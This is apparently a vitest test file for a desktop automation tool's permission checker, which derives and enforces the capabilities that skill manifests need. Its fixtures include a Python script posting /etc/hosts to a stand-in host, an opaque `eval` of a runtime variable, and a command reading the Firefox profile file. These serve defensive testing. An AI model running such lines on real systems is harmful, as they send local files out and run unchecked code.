import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadLibrary } from '../../../../src/main/services/library/YamlLibraryLoader';
import { checkSkillManifest, deriveManifest, enforceManifests } from '../../../../src/main/services/permissions';
import { libraryOf } from '../../../helpers/executor';

const APP = `
kind: app
id: ed
name: Ed
platforms: [linux]
launch: { command: ed }
windows: { class: '^ed$' }
implements: [Notes]
`;
const NOTES = `
kind: interface
id: Notes
description: notes
methods:
  save:
    description: save
    intents: ['save to \${path}']
    args: { path: { type: path } }
  archive:
    description: save under the archive folder
    intents: ['archive as \${name}']
    args: { name: { type: string } }
    composite:
      permissions:
        - { capability: skill.call, effect: allow }
        - { capability: input.keyboard, effect: allow }
      graph:
        start: s
        nodes:
          s: { action: call, skill: Notes.save, args: { path: '/srv/archive/\${name}.txt' }, next: done }
          done: { terminal: success }
`;
const skill = (id: string, permissions: string, nodes: string, extra = '') => `
kind: skill
id: ed.${id}
app: ed
${extra}
permissions: ${permissions}
graph:
  start: a
  nodes:
${nodes}
`;
const SAVE = skill(
  'save',
  "[{ capability: input.keyboard, effect: allow }, { capability: file.write, effect: allow, constraints: { paths: ['${path}'] } }]",
  "    a: { action: hotkey, keys: [Control, s], next: b }\n    b: { action: type_text, text: '${path}', next: done }\n    done: { terminal: success }",
  'implements: Notes.save',
);

describe('src/main/services/permissions/deriveManifest', () => {
  it('finds every shipped skill declared exactly enough (no errors)', async () => {
    const { library } = await loadLibrary({ builtinDir: join(__dirname, '../../../../skills') });
    const errors = [...library.skills.values()].flatMap((s) => checkSkillManifest(s, library).errors.map((e) => `${s.id}: ${e}`));
    expect(errors).toEqual([]);
    expect(library.skills.size).toBeGreaterThan(30);
  });

  it("derives a composite's needs through its callees, with the callee's app as ${app} and its path as the call passes it", () => {
    const lib = libraryOf(NOTES, APP, SAVE);
    const d = deriveManifest(lib.skills.get('Notes.archive')!, lib);
    expect(d.needs.map((n) => [n.capability, n.scopes])).toEqual([
      ['file.write', ['/srv/archive/${name}.txt']],
      ['input.keyboard', ['${app}']],
      ['skill.call', ['Notes.save']],
    ]);
    const check = checkSkillManifest(lib.skills.get('Notes.archive')!, lib);
    expect(check.errors).toEqual([
      expect.stringMatching(
        /^under-declared: needs `file\.write` on \/srv\/archive\/\$\{name\}\.txt \(Notes\.archive > ed\.save#b\).*add \{capability: "file\.write", effect: "confirm", constraints: \{paths: \["\/srv\/archive\/\$\{name\}\.txt"\]\}\}/,
      ),
    ]);
  });

  it('reports input to an app the manifest does not name, over-declared entries and constraints that cannot apply', () => {
    const lib = libraryOf(
      APP.replace('implements: [Notes]', 'implements: []'),
      skill(
        'typer',
        '[{ capability: input.keyboard, effect: allow, constraints: { apps: [other] } }, { capability: web.fetch, effect: allow, constraints: { apps: [ed] } }]',
        '    a: { action: type_text, text: hi, next: done }\n    done: { terminal: success }',
        'description: t\nintents: [t]',
      ),
    );
    const check = checkSkillManifest(lib.skills.get('ed.typer')!, lib);
    expect(check.errors).toEqual(["under-declared: `input.keyboard` to app `ed` (ed.typer#a) is not in any entry's `apps`"]);
    expect(check.warnings).toEqual([
      "over-declared: entry #1 (allow web.fetch) matches nothing the skill's graph needs",
      'entry #1: `apps` has no effect on web.fetch',
    ]);
  });

  it('derives script capabilities by inference, and what it cannot analyse as a script.unanalysed need', () => {
    const lib = libraryOf(
      APP.replace('implements: [Notes]', 'implements: []'),
      skill(
        'upload',
        '[{ capability: script.execute, effect: allow }]',
        "    a: { action: run_script, interpreter: python, script: \"import requests\\nrequests.post('https://u.example.com', data=open('/etc/hosts').read())\", next: done }\n    done: { terminal: success }",
        'description: t\nintents: [t]',
      ),
      skill(
        'opaque',
        '[{ capability: script.execute, effect: allow }]',
        '    a: { action: run_script, interpreter: bash, script: \'eval "$X"\', next: done }\n    done: { terminal: success }',
        'description: t\nintents: [t]',
      ),
    );
    const up = checkSkillManifest(lib.skills.get('ed.upload')!, lib);
    expect(up.errors.map((e) => e.split(' (')[0])).toEqual([
      'under-declared: needs `file.read` on /etc/hosts',
      'under-declared: needs `web.post` on https://u.example.com',
    ]);
    const opaque = checkSkillManifest(lib.skills.get('ed.opaque')!, lib);
    // What cannot be analysed is a need of its own (`script.unanalysed`): undeclared, the skill is refused; a manifest may declare it to confirm.
    expect(opaque.errors).toEqual([
      expect.stringMatching(/^under-declared: needs `script\.unanalysed` on `eval` runs code built at run time/),
    ]);
  });

  it('removes under-declared skills from the library with a problem on their permissions, keeping the rest', () => {
    const lib = libraryOf(NOTES, APP, SAVE);
    const problems = enforceManifests(lib);
    expect(lib.skills.has('Notes.archive')).toBe(false);
    expect(lib.skills.has('ed.save')).toBe(true);
    expect(problems).toEqual([
      expect.objectContaining({ file: 'doc0.yaml', path: ['methods', 'archive', 'composite', 'permissions'], severity: 'error' }),
    ]);
    expect(lib.problems).toContain(problems[0]);
  });

  it('derives web.navigate for URL arguments and the script of a command-computed domain', () => {
    const lib = libraryOf(
      APP.replace('implements: [Notes]', 'implements: []'),
      skill(
        'visit',
        '[{ capability: input.keyboard, effect: allow }, { capability: web.navigate, effect: allow, constraints: { domains: [example.com] } }]',
        "    a: { action: type_text, text: '${url}', next: done }\n    done: { terminal: success }",
        "description: t\nintents: [t]\nargs:\n  url: { type: string }\n  profile: { type: choice, source: { kind: command, interpreter: bash, script: 'cat ~/.mozilla/firefox/profiles.ini' } }",
      ),
    );
    const check = checkSkillManifest(lib.skills.get('ed.visit')!, lib);
    expect(check.derived.needs.map((n) => [n.capability, n.scopes])).toEqual([
      ['file.read', ['~/.mozilla/firefox/profiles.ini']],
      ['input.keyboard', ['ed']],
      ['script.execute', []],
      ['secrets.read', ['~/.mozilla/firefox/profiles.ini']],
      ['web.navigate', ['${url}']],
    ]);
    expect(check.errors.map((e) => e.split(' (')[0])).toEqual([
      'under-declared: needs `file.read` on ~/.mozilla/firefox/profiles.ini',
      'under-declared: needs `script.execute`',
      'under-declared: needs `secrets.read` on ~/.mozilla/firefox/profiles.ini',
    ]);
  });
});
